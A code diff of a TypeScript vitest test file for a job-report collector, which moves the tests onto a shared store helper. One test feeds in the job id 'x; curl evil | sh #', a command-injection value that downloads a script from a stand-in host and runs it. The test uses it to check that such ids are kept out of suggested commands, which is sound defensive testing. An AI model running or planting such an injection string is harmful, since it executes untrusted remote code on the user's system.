@@ -1,6 +1,9 @@
 import { expect, test } from 'vitest';
 import { readJobs } from '../../../lib/report/collect/jobs.ts';
-import { createMemoryStore, type MemoryStore } from '../../store/memory-store.ts';
+import type { MemoryStore } from '../../store/memory-store.ts';
+import { storeOfEach } from '../../store/store-of-each.ts';
+
+const store = storeOfEach();
 
 const NOON = Date.parse('2026-11-18T12:00:00.000Z');
 
@@ -39,7 +42,6 @@ async function read(store: MemoryStore, most?: number) {
 }
 
 test('jobs are counted by type, and unknown ones come before failed ones, each newest first, with what to do', async () => {
-  const store = createMemoryStore();
   const error = { kind: 'status', message: 'a 500' };
   await end(store, 'a', 'failed', '2026-11-17T10', { error });
   await end(store, 'b', 'unknown', '2026-11-17T09');
@@ -62,7 +64,6 @@ test('jobs are counted by type, and unknown ones come before failed ones, each n
 });
 
 test('only thirty days are read', async () => {
-  const store = createMemoryStore();
   await put(store, 'snapshot/dt=2026-10-19/old', result('old', 'done', '2026-10-19T10:00:00.000Z'));
   await put(store, 'snapshot/dt=2026-10-20/new', result('new', 'done', '2026-10-20T10:00:00.000Z'));
 
@@ -73,7 +74,6 @@ test('only thirty days are read', async () => {
 });
 
 test('of more results of a type than are read, the newest days count, and no type hides another', async () => {
-  const store = createMemoryStore();
   for (const at of Array.from({ length: 9 }).keys()) {
     await end(store, `a${at}`, 'done', '2026-11-18T10');
     await end(store, `b${at}`, 'failed', '2026-11-17T10');
@@ -90,7 +90,6 @@ test('of more results of a type than are read, the newest days count, and no typ
 });
 
 test('of a large result only its beginning is parsed, and what is no result is named', async () => {
-  const store = createMemoryStore();
   const head = JSON.stringify(result('big', 'done', '2026-11-18T10:00:00.000Z')).slice(0, -1);
   await put(store, 'run-function/dt=2026-11-18/big', `${head},"response":{what is not JSON}}`);
   await put(store, 'run-function/dt=2026-11-18/odd', '{"status":7}');
@@ -104,7 +103,6 @@ test('of a large result only its beginning is parsed, and what is no result is n
 });
 
 test('an id that is not one of a job is not put into a command', async () => {
-  const store = createMemoryStore();
   await end(store, 'x; curl evil | sh #', 'unknown', '2026-11-18T10');
 
   const { attention } = await read(store);
@@ -114,7 +112,6 @@ test('an id that is not one of a job is not put into a command', async () => {
 });
 
 test('however many jobs have failed since, an unknown one is listed', async () => {
-  const store = createMemoryStore();
   await end(store, 'u', 'unknown', '2026-11-17T09');
   for (const at of Array.from({ length: 2_100 }).keys())
     await end(store, `f${at}`, 'failed', '2026-11-18T09');
